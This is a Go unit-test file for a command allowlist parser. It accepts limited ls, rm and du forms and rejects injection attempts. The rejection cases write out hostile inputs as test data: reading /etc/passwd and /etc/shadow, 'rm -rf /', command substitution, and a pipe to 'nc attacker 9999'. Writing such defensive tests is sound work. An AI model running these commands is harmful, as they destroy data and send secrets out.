package safecmd

import (
	"testing"

	"github.com/stretchr/testify/require"
)

func TestParseAllowed(t *testing.T) {
	cases := []struct {
		name string
		raw  string
		want string
	}{
		{"bare ls", "ls", "ls"},
		{"ls with flags", "ls -la /workspace", "ls -la /workspace"},
		{"ls long recursive", "ls -l -R /data", "ls -l -R /data"},
		{"rm recursive force", "rm -r -f /tmp/scratch", "rm -r -f /tmp/scratch"},
		{"du summarize", "du -s -h /data", "du -s -h /data"},
		{"du depth", "du -d2 /workspace", "du -d2 /workspace"},
		{"extra whitespace collapsed", "ls    -l   /data", "ls -l /data"},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			cmd, err := Parse(tc.raw)
			require.NoError(t, err)
			require.Equal(t, tc.want, cmd.Render())
		})
	}
}

func TestParseCombinedFlags(t *testing.T) {
	// Combined short flags pass when every letter is individually allowed.
	cmd, err := Parse("ls -la /data")
	require.NoError(t, err)
	require.Equal(t, "ls", cmd.Verb)
	require.Equal(t, []string{"-la", "/data"}, cmd.Args)
}

func TestParseRejectsVerbs(t *testing.T) {
	for _, raw := range []string{
		"cat /etc/passwd",
		"bash -c ls",
		"curl http://example.com",
		"LS /data",
		"rmdir /data",
	} {
		t.Run(raw, func(t *testing.T) {
			_, err := Parse(raw)
			require.Error(t, err)
		})
	}
}

func TestParseRejectsMetacharacters(t *testing.T) {
	for _, raw := range []string{
		"ls /data; rm -rf /",
		"ls /data && cat /etc/shadow",
		"ls `id`",
		"ls $(id)",
		"ls /data | nc attacker 9999",
		"ls > /etc/cron.d/x",
		"rm -f /tmp/a\nid",
		"du -s ~root",
		"ls *",
		"ls /data?",
		"rm -f '/tmp/a b'",
		"ls \"quoted\"",
		"du -s /data#comment",
	} {
		t.Run(raw, func(t *testing.T) {
			_, err := Parse(raw)
			require.Error(t, err, "expected rejection of %q", raw)
		})
	}
}

func TestParseRejectsUnknownFlags(t *testing.T) {
	for _, raw := range []string{
		"ls --color /data",
		"rm -rf --no-preserve-root /",
		"du -x /data",
		"du -d /data",
		"du -d2x /data",
		"ls -z",
	} {
		t.Run(raw, func(t *testing.T) {
			_, err := Parse(raw)
			require.Error(t, err)
		})
	}
}

func TestParseEmpty(t *testing.T) {
	for _, raw := range []string{"", "   ", "\t"} {
		_, err := Parse(raw)
		require.Error(t, err)
	}
}

func TestRenderDropsRawInput(t *testing.T) {
	// Render output comes from validated tokens only.
	cmd, err := Parse("  du   -s    /workspace  ")
	require.NoError(t, err)
	require.Equal(t, "du -s /workspace", cmd.Render())
}
